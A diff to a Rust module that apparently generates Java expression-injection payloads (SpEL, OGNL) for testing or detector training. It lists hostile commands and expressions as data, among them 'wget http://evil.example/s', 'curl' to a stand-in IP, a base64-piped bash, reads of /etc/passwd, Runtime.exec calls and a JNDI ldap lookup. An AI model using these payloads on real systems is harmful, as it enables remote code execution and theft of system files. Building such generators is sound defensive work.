@@ -11,7 +11,7 @@ use crate::{Carrier, Family, Rng, Variant};
 
 pub struct JavaInjection;
 
-const COMMANDS: &[&str] = &["id", "whoami", "calc", "touch /tmp/pwn", "cat /etc/passwd", "uname -a", "nslookup x.oast.example", "curl http://203.0.113.5/a", "ping -c 1 198.51.100.2", "cmd.exe /c dir", "bash -c {echo,aWQ=}|{base64,-d}|bash", "wget http://evil.example/s"];
+const COMMANDS: &[&str] = &["id", "whoami", "calc", "touch /tmp/pwn", "cat /etc/passwd", "uname -a", "nslookup x.oast.example", "curl http://203.0.113.5/a", "ping -c 1 198.51.100.2", "cmd.exe /c dir", "bash -c {echo,aWQ=}|{base64,-d}|bash", "wget http://evil.example/s", "hostname", "ls -la /", "powershell -c whoami", "sleep 7"];
 const CLASSES: &[&str] = &[
     "java.lang.Runtime", "java.lang.ProcessBuilder", "javax.naming.InitialContext", "javax.script.ScriptEngineManager",
     "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "com.sun.rowset.JdbcRowSetImpl", "java.net.URLClassLoader",
@@ -41,12 +41,16 @@ impl Family for JavaInjection {
             3..=5 => ognl(rng, q, cmd, &mut names),
             6 | 7 => {
                 names.push("spel-type");
-                let class = *rng.pick(&["java.lang.Runtime", "java.lang.System", "java.lang.Thread", "org.springframework.util.StreamUtils", "java.nio.file.Files", "java.lang.Class"]);
+                let class = *rng.pick(&["java.lang.Runtime", "java.lang.System", "java.lang.Thread", "org.springframework.util.StreamUtils", "java.nio.file.Files", "java.lang.Class", "java.net.InetAddress", "javax.naming.InitialContext"]);
                 let member = match class {
                     "java.lang.Runtime" => format!("getRuntime().exec({q}{cmd}{q})"),
-                    "java.lang.System" => rng.pick(&["getenv()", "getProperty('user.dir')", "exit(0)"]).to_string(),
+                    "java.lang.System" => rng.pick(&["getenv()", "getProperty('user.dir')", "exit(0)", "setProperty('a','b')"]).to_string(),
                     "java.lang.Class" => format!("forName({q}java.lang.Runtime{q})"),
-                    _ => "currentThread()".to_string(),
+                    "java.lang.Thread" => format!("sleep({})", rng.range(3, 30) * 1000),
+                    "java.net.InetAddress" => format!("getByName({q}{}.oast.example{q})", rng.range(1, 1 << 24)),
+                    "java.nio.file.Files" => format!("readAllLines(T(java.nio.file.Paths).get({q}/etc/passwd{q}))"),
+                    "javax.naming.InitialContext" => format!("doLookup({q}ldap://{}.oast.example/a{q})", rng.range(1, 1 << 24)),
+                    _ => "copyToString(null)".to_string(),
                 };
                 let space = if rng.chance(0.3) { " " } else { "" };
                 let expr = format!("T{space}({class}).{member}");
